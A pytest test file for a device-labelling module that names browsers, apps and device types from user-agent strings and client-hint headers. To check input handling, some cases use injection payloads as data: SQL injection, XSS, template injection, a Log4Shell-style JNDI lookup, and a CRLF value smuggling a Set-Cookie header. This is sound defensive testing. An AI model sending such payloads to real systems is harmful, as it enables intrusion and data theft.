"""What people read in their list of devices, for what browsers, apps and attackers send."""

import logging
import time
import tracemalloc

import pytest

from benchmarks.label import hostile_strings
from devices.core.clients.client import Client, Label, clean_user_agent, describe_device, os_family
from devices.core.clients.user_agents.hints import HINT_HEADERS
from devices.models import DeviceSession, DeviceType

pytestmark = pytest.mark.own_database

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)"
MAC_SAFARI = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
)
LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
CHROME_OS = "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko)"
ANDROID = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko)"
WEBVIEW = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UD1A.230803.041; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36"
)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko)"
)
IPAD = "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
CHROME = "Chrome/124.0.0.0 Safari/537.36"
CHROME_MOBILE = "Chrome/124.0.0.0 Mobile Safari/537.36"
SAFARI = "Version/17.4 Mobile/15E148 Safari/604.1"


def of(user_agent="", **hints):
    """Label a client; keyword arguments are hint headers with underscores for hyphens."""
    headers = {name.replace("_", "-"): value for name, value in hints.items()}
    assert set(headers) <= set(HINT_HEADERS)
    return describe_device(Client(user_agent=clean_user_agent(user_agent), hints=headers))


BROWSERS = {
    f"{WINDOWS} {CHROME}": ("Chrome on Windows", "desktop"),
    f"{WINDOWS} {CHROME} Edg/124.0.0.0": ("Edge on Windows", "desktop"),
    f"{WINDOWS} {CHROME} OPR/109.0.0.0": ("Opera on Windows", "desktop"),
    f"{WINDOWS} {CHROME} Vivaldi/6.7": ("Vivaldi on Windows", "desktop"),
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0": (
        "Firefox on Windows",
        "desktop",
    ),
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko": (
        "Internet Explorer on Windows",
        "desktop",
    ),
    f"{MAC} {CHROME}": ("Chrome on macOS", "desktop"),
    f"{MAC_SAFARI} Version/17.4 Safari/605.1.15": ("Safari on macOS", "desktop"),
    f"{LINUX} {CHROME}": ("Chrome on Linux", "desktop"),
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0": (
        "Firefox on Linux",
        "desktop",
    ),
    f"{CHROME_OS} {CHROME}": ("Chrome on ChromeOS", "desktop"),
    f"{ANDROID} {CHROME_MOBILE}": ("Chrome on Android", "mobile"),
    f"{ANDROID} {CHROME_MOBILE} EdgA/124.0.0.0": ("Edge on Android", "mobile"),
    f"{ANDROID} SamsungBrowser/25.0 {CHROME_MOBILE}": ("Samsung Internet on Android", "mobile"),
    f"{LINUX} SamsungBrowser/25.0 {CHROME}": ("Samsung Internet on Android", "tablet"),
    "Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0": (
        "Firefox on Android",
        "mobile",
    ),
    f"{IPHONE} {SAFARI}": ("Safari on iOS", "mobile"),
    f"{IPHONE} CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1": ("Chrome on iOS", "mobile"),
    f"{IPHONE} FxiOS/125.0 Mobile/15E148 Safari/605.1.15": ("Firefox on iOS", "mobile"),
    f"{IPHONE} EdgiOS/124.0 {SAFARI}": ("Edge on iOS", "mobile"),
    f"{IPHONE} GSA/313.0 Mobile/15E148 Safari/604.1": ("Google App on iOS", "mobile"),
    f"{IPAD} {SAFARI}": ("Safari on iPadOS", "tablet"),
    f"{MAC_SAFARI} FxiOS/125.0 Safari/605.1.15": ("Firefox on iPadOS", "tablet"),
    f"Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1) {CHROME_MOBILE} Edge/15.15254": (
        "Edge on Windows Phone",
        "mobile",
    ),
    "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18": (
        "Opera on Windows",
        "desktop",
    ),
    f"Mozilla/5.0 (Linux; Android 9; Acme Chromebook 14) {CHROME}": (
        "Chrome on ChromeOS",
        "desktop",
    ),
    "Mozilla/5.0 (Linux; Tizen 3.0; SM-Z400F) AppleWebKit/538.1 (KHTML, like Gecko) "
    "Version/3.0 Mobile Safari/538.1": (
        "Samsung Internet on Tizen",
        "mobile",
    ),
    "Mozilla/5.0 (Linux; Android 4.4.2; SM-G900F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/1.6 Chrome/28.0.1500.94 Mobile Safari/537.36": (
        "Samsung Internet on Android",
        "mobile",
    ),
}


@pytest.mark.parametrize(("user_agent", "expected"), BROWSERS.items())
def test_browsers_are_called_as_people_call_them(user_agent, expected):
    named = of(user_agent)
    assert (named.device, named.device_type) == expected
    assert named.device == f"{named.browser} on {named.os}"


def test_an_iphone_that_only_says_iphone_is_safari_on_ios():
    assert of("Mozilla/5.0 (iPhone; CPU iPhone OS 14_0 like Mac OS X)") == Label(
        "Safari on iOS", "mobile", "Safari", "iOS"
    )


def test_the_version_of_a_browser_is_no_part_of_its_label():
    assert of(f"{WINDOWS} Chrome/99.0.1.2 Safari/537.36") == of(f"{WINDOWS} {CHROME}")


APPS = {
    f"{WEBVIEW} Instagram 329.0.0.41.93 Android (34/14; 420dpi; Google; Pixel 8)": (
        "Instagram on Android",
        "mobile",
    ),
    f"{WEBVIEW} [FB_IAB/FB4A;FBAV/459.0.0.32.90;]": ("Facebook on Android", "mobile"),
    f"{WEBVIEW} [FB_IAB/MESSENGER;FBAV/450.0.0.40.109;]": (
        "Facebook Messenger on Android",
        "mobile",
    ),
    f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/459.0.0.25.109]": ("Facebook on iOS", "mobile"),
    f"{IPHONE} Mobile/15E148 LightSpeed [FBAN/MessengerLiteForiOS;FBAV/335.1;]": (
        "Facebook Messenger on iOS",
        "mobile",
    ),
    "Acme Notes/6.0.3 iPhone12,1 iOS/17.5.1 CFNetwork/1408.0.4 Darwin/22.5.0": (
        "Acme Notes on iOS",
        "mobile",
    ),
    "Acme iOS/3.1 (build:3.1.0.3; iOS 17.3.1) Alamofire/4.8.2": ("Acme on iOS", "mobile"),
    "Acme/2.0 (phone;ios Version 17.3.1)": ("Acme on iOS", "mobile"),
    f"{IPHONE} Mobile/15E148 [LinkedInApp]/9.29.6": ("LinkedIn on iOS", "mobile"),
    f"{WEBVIEW} MQQBrowser/6.2 TBS/046291 MicroMessenger/8.0.47": ("WeChat on Android", "mobile"),
    f"{IPHONE} Mobile/15E148 NAVER(inapp; search; 2000; 12.4.2)": ("Naver on iOS", "mobile"),
    "Slack/24.04.10 (iPhone; iOS 17.4.1; Scale/3.00)": ("Slack on iOS", "mobile"),
    "com.tinyspeck.chatlyio/24.04 (iPhone; iOS 17.4; Scale/3.00)": ("Slack on iOS", "mobile"),
    "Spotify/8.9.36 Android/34 (Pixel 8)": ("Spotify on Android", "mobile"),
    "Acme%20Notes/12 CFNetwork/978.0.7 Darwin/18.7.0": ("Acme Notes on iOS", "mobile"),
    "Acme Notes/2.3 (Windows NT 10.0; x64)": ("Acme Notes on Windows", "desktop"),
    f"{MAC} AcmeNotes/2.3.1 Chrome/120.0.0.0 Electron/28.1.0 Safari/537.36": (
        "AcmeNotes on macOS",
        "desktop",
    ),
    "Microsoft Office Word/16.84 (Mac OS/14.4; Desktop; en-US; AppStore)": (
        "Microsoft Word on macOS",
        "desktop",
    ),
    "org.example.reader/3.1 (Linux; U; Android 13; de_DE)": ("Reader on Android", "mobile"),
    f"{WEBVIEW} Opera/5": ("Opera on Android", "mobile"),
    "Slack_SSB/4.38.115 (Macintosh)": ("Slack on macOS", "desktop"),
    "AcmeAndroid/4.2 (Linux; Android 13)": ("Acme on Android", "mobile"),
    "Acme/12 CFNetwork/1494.0.7 Darwin/23.4.0 (x86_64)": ("Acme on macOS", "desktop"),
    f"{WEBVIEW} AppName/Acme app_version/4.2": ("Acme on Android", "mobile"),
    f"{WEBVIEW} Acme": ("Acme on Android", "mobile"),
    "ACME T1 Linux/5.4 Player/3.1.0": ("Player on Linux", "desktop"),
    "AcmePhone-X1/1.0 Android/4.2 Browser/AppleWebKit534.30 Profile/MIDP-2.0": (
        "Android Browser on Android",
        "mobile",
    ),
}


@pytest.mark.parametrize(("user_agent", "expected"), APPS.items())
def test_apps_are_named_not_the_engine_inside_of_them(user_agent, expected):
    named = of(user_agent)
    assert (named.device, named.device_type) == expected


TOOLS = {
    "curl/8.6.0": "curl",
    "Wget/1.21.4": "Wget",
    "python-requests/2.31.0": "Python Requests",
    "python-urllib3/2.2.1": "Python urllib",
    "Python/3.12 aiohttp/3.9.5": "aiohttp",
    "Go-http-client/2.0": "Go-http-client",
    "PostmanRuntime/7.37.3": "Postman",
    "insomnia/9.1.1": "Insomnia",
    "HTTPie/3.2.2": "HTTPie",
    "axios/1.6.8": "axios",
    "GuzzleHttp/7": "Guzzle",
}


@pytest.mark.parametrize(("user_agent", "name"), TOOLS.items())
def test_tools_are_named_and_no_system_is_invented_for_them(user_agent, name):
    assert of(user_agent) == Label(name, "cli", name, "")


def test_a_tool_that_states_its_system_has_it():
    assert of("python-requests/2.31.0 CPython/3.11.8 Linux/6.1.0").os == "Linux"


@pytest.mark.parametrize(
    ("user_agent", "os"),
    [
        ("WhatsApp/2.24.8.78 i", "iOS"),
        ("WhatsApp/2.24.8.85 A", "Android"),
        ("UCWEB/2.0 (MIDP-2.0; U; en-US; AcmeiPad 7) U2/1.0.0 UCBrowser/10.1 Mobile", ""),
        (f"Mozilla/5.0 (Windows NT 10.0; Android 9; Acme) {CHROME_MOBILE}", "Windows"),
        ("Mozilla/5.0 (OS/2; Warp 4.5; rv:45.0) Gecko/20100101 Firefox/45.0", "OS/2"),
        ("AppleCoreMedia/1.0.0 (Apple TV; U; CPU OS 17_4 like Mac OS X; en_us)", "tvOS"),
        ("HbbTV/1.5.1 (+DRM; Acme; TV55; 1.0; ; )", ""),
    ],
)
def test_a_system_is_named_where_it_is_stated_and_only_there(user_agent, os):
    assert of(user_agent).os == os


@pytest.mark.parametrize(
    ("user_agent", "device_type"),
    [
        ("Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 Safari/537.36", "tv"),
        (
            "Mozilla/5.0 (Linux; Android 9; AFTMM Build/PS7) Chrome/70.0.3538.110 Safari/537.36",
            "tv",
        ),
        ("Mozilla/5.0 (PlayStation; PlayStation 5/8.00) AppleWebKit/605.1.15", "console"),
        (f"{WINDOWS[:-1]}; Xbox; Xbox One) {CHROME} Edge/44.18363", "console"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot"),
        (f"{ANDROID} {CHROME}", "tablet"),
        ("Mozilla/5.0 (Linux; Android 13; SM-X200) Chrome/124.0 Mobile Safari/537.36", "tablet"),
        ("Mozilla/5.0 (Linux; Android 13; Lenovo Tab P11) Chrome/124.0 Safari/537.36", "tablet"),
        ("Mozilla/5.0 (Linux; Android 9; Coolpad 3310) Chrome/99.0 Mobile Safari/537.36", "mobile"),
        ("AcmePlayer/1.4", "app"),
    ],
)
def test_the_kind_of_device(user_agent, device_type):
    assert of(user_agent).device_type == device_type


def test_a_phone_is_mobile_and_a_tablet_is_not():
    assert [kind for kind in DeviceType if DeviceSession(device_type=kind).is_mobile] == ["mobile"]


@pytest.mark.parametrize(
    ("user_agent", "device"),
    [
        ("", "Unknown device"),
        ("   ", "Unknown device"),
        ("Mozilla/5.0", "Unknown device"),
        ("12345", "Unknown device"),
        ("'; DROP TABLE users; --", "Unknown device"),
        ("<script>alert(1)</script>", "Unknown device"),
        ('"><img src=x onerror=alert(1)>', "Unknown device"),
        ("{{7*7}}", "Unknown device"),
        ("${jndi:ldap://192.0.2.1/a}", "Unknown device"),
        ("x" * 5000, "Unknown device"),
        ("Mozilla/5.0 (Windows NT 10.0)", "Unknown browser on Windows"),
    ],
)
def test_what_is_not_known_is_called_unknown(user_agent, device):
    assert of(user_agent).device == device


GREASE = (
    '"Not A(Brand";v="99"',
    '"Not/A)Brand";v="8"',
    '" Not;A Brand";v="24"',
    '"Not_A Brand";v="8"',
)
BRANDS = {
    "Google Chrome": "Chrome",
    "Microsoft Edge": "Edge",
    "Opera": "Opera",
    "Opera GX": "Opera GX",
    "Brave": "Brave",
    "Vivaldi": "Vivaldi",
    "YaBrowser": "Yandex Browser",
    "Samsung Internet": "Samsung Internet",
    "DuckDuckGo": "DuckDuckGo",
    "Avast Secure Browser": "Avast Secure Browser",
    "Norton Private Browser": "Norton Private Browser",
    "Oculus Browser": "Meta Quest Browser",
    "Some New Browser": "Some New Browser",
    "Chromium": "Chrome",
    "<b>": "Chrome",
}


@pytest.mark.parametrize("grease", GREASE)
@pytest.mark.parametrize(("brand", "name"), BRANDS.items())
def test_the_brand_is_found_among_grease_and_engine_in_any_order(brand, name, grease):
    brands = [f'"{brand}";v="124"', '"Chromium";v="124"', grease]
    for turn in range(3):
        listed = ", ".join(brands[turn:] + brands[:turn])
        assert of(f"{WINDOWS} {CHROME}", sec_ch_ua=listed).browser == name


def test_a_brand_is_believed_before_chrome_and_an_app_before_a_brand():
    both = '"Chromium";v="124", "Google Chrome";v="124", "Brave";v="124"'
    assert of(f"{WINDOWS} {CHROME}", sec_ch_ua=both).browser == "Brave"
    assert of(f"{WEBVIEW} Instagram 329.0.0.41", sec_ch_ua=both).browser == "Instagram"


@pytest.mark.parametrize(
    ("version", "os"),
    [
        ('"15.0.0"', "Windows 11"),
        ('"13.0.0"', "Windows 11"),
        ('"10.0.0"', "Windows 10"),
        ('"1.0.0"', "Windows 10"),
        ('"0.3.0"', "Windows 8.1"),
        ('"0.1.0"', "Windows 7"),
        ('"0"', "Windows"),
        ('""', "Windows"),
        ("15.0.0", "Windows"),
        ('"٣.0.0"', "Windows"),
        ('"' + "9" * 100_000 + '"', "Windows"),
    ],
)
def test_the_platform_version_tells_windows_11_from_10(version, os):
    named = of(
        f"{WINDOWS} {CHROME}",
        sec_ch_ua_platform='"Windows"',
        sec_ch_ua_platform_version=version,
    )
    assert (named.os, named.device) == (os, f"Chrome on {os}")
    assert os_family(os) == "Windows"


@pytest.mark.parametrize(
    ("user_agent", "platform", "os"),
    [
        (f"{LINUX} {CHROME}", "Android", "Android"),
        (f"{WINDOWS} {CHROME}", "macOS", "macOS"),
        (f"{ANDROID} {CHROME}", "Linux", "Android"),
        (f"{CHROME_OS} {CHROME}", "Linux", "ChromeOS"),
        (f"{LINUX} {CHROME}", "Chrome OS", "ChromeOS"),
        (f"{LINUX} {CHROME}", "Chromium OS", "ChromeOS"),
        (f"{IPAD} {SAFARI}", "iOS", "iPadOS"),
        (f"{IPHONE} {SAFARI}", "macOS", "iOS"),
        (f"{WINDOWS} {CHROME}", "Unknown", "Windows"),
        (f"{WINDOWS} {CHROME}", "Lindows", "Windows"),
        ("", "macOS", "macOS"),
    ],
)
def test_the_platform_is_believed_unless_the_agent_says_it_finer(user_agent, platform, os):
    assert of(user_agent, sec_ch_ua_platform=f'"{platform}"').os == os


def test_the_model_stands_beside_the_name():
    phone = of(f"{ANDROID} {CHROME_MOBILE}", sec_ch_ua_model='"Pixel 8"', sec_ch_ua_mobile="?1")
    assert phone == Label("Chrome on Android (Pixel 8)", "mobile", "Chrome", "Android")


def test_an_android_app_on_a_chromebook_states_its_mainboard_as_model():
    named = of(f"{ANDROID} {CHROME}", sec_ch_ua_platform='"Android"', sec_ch_ua_model='"volteer"')
    assert (named.os, named.device_type) == ("ChromeOS", "desktop")


@pytest.mark.parametrize(
    ("hints", "device_type"),
    [
        ({"sec_ch_ua_mobile": "?1"}, "mobile"),
        ({"sec_ch_ua_mobile": "?0"}, "tablet"),
        ({"sec_ch_ua_mobile": "?1", "sec_ch_ua_form_factors": '"Tablet"'}, "tablet"),
        ({"sec_ch_ua_form_factors": '"XR", "Desktop"'}, "desktop"),
        ({"sec_ch_ua_mobile": "?1", "sec_ch_ua_model": '"Acme Tab 10"'}, "tablet"),
        ({"sec_ch_ua_mobile": "true"}, "mobile"),
    ],
)
def test_hints_tell_a_tablet_from_a_phone(hints, device_type):
    assert of(f"{ANDROID} {CHROME_MOBILE}", **hints).device_type == device_type


@pytest.mark.parametrize(
    ("package", "browser"),
    [
        ("com.snapchat.android", "Snapchat"),
        ("com.facebook.katana", "Facebook"),
        ("org.mozilla.focus", "Firefox"),
        ("com.sec.android.app.sbrowser.beta", "Samsung Internet"),
        ("org.example.nightbrowser", "Nightbrowser"),
        ("de.example.mail", "Example Mail"),
        ("com.example.android.lite", "Example"),
        ("com.netflix.mediaclient", "Netflix"),
        ("com.example.jb", "Example"),
        ("XMLHttpRequest", "Chrome"),
        ("Fetch", "Chrome"),
        ("a." * 60_000 + "a", "Chrome"),
        ("com.<b>.x", "Chrome"),
    ],
)
def test_the_package_around_a_webview_names_the_app(package, browser):
    assert of(WEBVIEW, x_requested_with=package).browser == browser


def test_an_app_states_its_name_model_and_device_in_headers_of_its_own():
    named = of(
        "okhttp/4.12.0",
        x_app_version="Acme Notes 2.3.1",
        x_device_model="Pixel 8",
    )
    assert named == Label("Acme Notes (Pixel 8)", "app", "Acme Notes", "")
    assert of("okhttp/4.12.0", x_device_model="Pixel 8").device == "Pixel 8"
    assert of("okhttp/4.12.0", x_app_version="2.3.1").device == "OkHttp"
    named = of("Acme/2.3 CFNetwork/1494.0.7 Darwin/23.4.0", x_device_name="Anna's iPhone")
    assert named == Label("Acme on iOS (Anna's iPhone)", "mobile", "Acme", "iOS")


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("Jörg’s Pixel".encode().decode("latin-1"), "Jörg’s Pixel"),
        ("J%C3%B6rg%E2%80%99s%20Pixel", "Jörg’s Pixel"),
        ("客厅的手机", "客厅的手机"),
        ("  Work   phone \t", "Work phone"),
        ("<b>Phone</b>", "bPhoneb"),
        ("Phone\r\nSet-Cookie: a=b", "Phone Set-Cookie ab"),
        ("Phone\u202e\u2066\x1b[2J\x00", "Phone2J"),
        ("Phone\ud800", "Phone"),
        ("P" * 100_000, "P" * 32),
        ("%%%", "OkHttp"),
        ("\U0001f600", "OkHttp"),
    ],
)
def test_a_device_name_is_cleaned_and_cut(sent, shown):
    assert of("okhttp/4.12.0", x_device_name=sent).device == shown


def test_a_long_label_keeps_within_64_characters():
    named = of(
        "Acme/1.0 (Linux; Android 14)",
        x_app_version="A" * 32 + " 1.0",
        x_device_name="B" * 32,
    )
    assert len(named.device) == 64
    assert named.device.startswith("A" * 32 + " on Android (B")


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Mozilla/5.0", "Mozilla/5.0"),
        ("  a  ", "a"),
        ("a" * 1_000_000, "a" * 512),
        ("\x00" * 600 + "a", ""),
        ("a\r\nb\tc\x1b[2Jd\x7f", "abc[2Jd"),
        ("a\u202eb\u2066c\u200fd", "abcd"),
        ("a\u2028b\u2029c\u0085d\u00a0e", "abcde"),
        ("a\ud800b\udfffc", "abc"),
        ("a\ue000b\U0010ffffc", "abc"),
        ("zażółć 客厅", "zażółć 客厅"),
    ],
)
def test_a_user_agent_is_cut_first_and_then_cleaned(raw, clean):
    assert clean_user_agent(raw) == clean
    clean_user_agent(raw).encode()


def test_a_rule_of_the_host_decides_first():
    def rule(client):
        if client.user_agent.startswith("AcmePOS/"):
            return Label("Till at the door", "app", "Acme POS", "Android")
        return None

    till = Client(user_agent="AcmePOS/4.2 (Android 13)")
    assert describe_device(till, [rule]) == Label("Till at the door", "app", "Acme POS", "Android")
    assert describe_device(Client(user_agent="curl/8.6.0"), [rule]).device == "curl"


def test_what_a_rule_makes_is_cleaned_cut_and_completed():
    def rule(_):
        return Label("", "toaster", "B" * 99, "<O>\x00S")

    assert describe_device(Client(), [rule]) == Label(
        f"{'B' * 32} on OS", "unknown", "B" * 32, "OS"
    )


@pytest.mark.parametrize("wrong", [Label(None, "app", "a", "b"), "Chrome", ("a",), 7])
def test_a_rule_that_answers_nonsense_is_passed_over(wrong):
    assert describe_device(Client(user_agent="curl/8.6.0"), [lambda _: wrong]).device == "curl"


def test_a_rule_that_raises_breaks_nothing_and_is_logged_on_one_line(caplog):
    def broken(client):
        raise RuntimeError(f"no rule for\n{client.user_agent}")

    with caplog.at_level(logging.WARNING):
        assert describe_device(Client(user_agent="curl/8.6.0"), [broken]).device == "curl"
    assert "RuntimeError" in caplog.text
    assert "no rule for" not in caplog.text
    assert len(caplog.text.splitlines()) == 1


def test_hostile_strings_of_100_kb_are_read_in_a_few_milliseconds():
    of(f"{WINDOWS} {CHROME}")
    for text in hostile_strings(100_000):
        start = time.process_time()
        by_agent = of(text)
        by_hints = of(**{name.replace("-", "_"): text for name in HINT_HEADERS})
        assert time.process_time() - start < 0.05, text[:30]
        for named in (by_agent, by_hints):
            assert len(named.device) <= 64
            assert max(len(named.browser), len(named.os)) <= 32
            assert named.device.isprintable()
            assert not set("<>\"'`{}$;") & set(named.device.replace("'", ""))


def test_uncleaned_text_is_cleaned_by_the_label_itself():
    assert describe_device(Client(user_agent="\ud800" * 9)).device == "Unknown device"


def test_ten_thousand_different_agents_leave_little_memory_behind():
    of(f"{WINDOWS} {CHROME}")
    tracemalloc.start()
    try:
        for number in range(10_000):
            of(f"{WINDOWS} Chrome/{number}.0.0.0 Safari/537.36 Acme{number}/{number}.1")
        kept, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kept < 10_000_000
